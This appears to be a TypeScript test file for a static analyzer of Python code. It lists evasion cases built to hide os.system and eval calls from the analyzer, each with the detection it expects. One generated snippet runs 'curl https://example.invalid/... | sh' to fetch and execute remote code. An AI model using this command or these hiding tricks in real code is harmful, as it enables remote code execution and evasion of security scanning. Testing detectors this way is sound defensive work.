import type { Evasion } from './evasion.js';

const poisoned = (members: number): string => `import os\nx = os.system\nif 0:\n    f(x${'.a'.repeat(members)})\nx("curl https://example.invalid/" + q + " | sh")`;
const lines = (count: number, line: (index: number) => string): string => Array.from({ length: count }, (_, index) => line(index)).join('\n');

/** Python behind the limits of what is followed, and around cycles of names; what costs too much must be kept. */
export const PYTHON_LIMITS: readonly Evasion[] = [
  ...[57, 58, 59, 60, 61].map((members): Evasion => [`asked before, ${members} members deep`, { 'main.py': poisoned(members) }, 'child-process high']),
  ['a cycle that is left', { 'main.py': 'a = b\na = eval\nb = a\nb(t)' }, 'dynamic-code'],
  ['a cycle that is asked from within', { 'main.py': 'a = b\nb = a\nf(b)\na = eval\nf(a)\nb(t)' }, 'dynamic-code'],
  ['a name that grows', { 'main.py': 'import os\na = os\na = a.system\na("x")' }, 'child-process'],
  ['stars', { 'main.py': `${lines(5_000, (index) => `from m${index} import *`)}\nfrom os import *\n${lines(5_000, (index) => `f${index}(x, y)`)}\nsystem("x")` }, 'child-process or unparseable-script'],
  ['nested calls', { 'main.py': `${lines(300, () => `${'f('.repeat(150)}${')'.repeat(150)}`)}\neval(x)` }, 'kept'],
  ['many sources of one name', { 'main.py': `${'a = b\n'.repeat(20_000)}${'a()\n'.repeat(20_000)}eval(x)` }, 'dynamic-code'],
  ['a long list', { 'main.py': `a = [${'b, '.repeat(20_000)}]\n${'a[0]()\n'.repeat(5_000)}eval(x)` }, 'dynamic-code'],
  ['texts that grow', { 'main.py': `a = "${'x'.repeat(4_000)}"\n${'a.replace("x", a)\n'.repeat(300)}eval(x)` }, 'dynamic-code'],
];
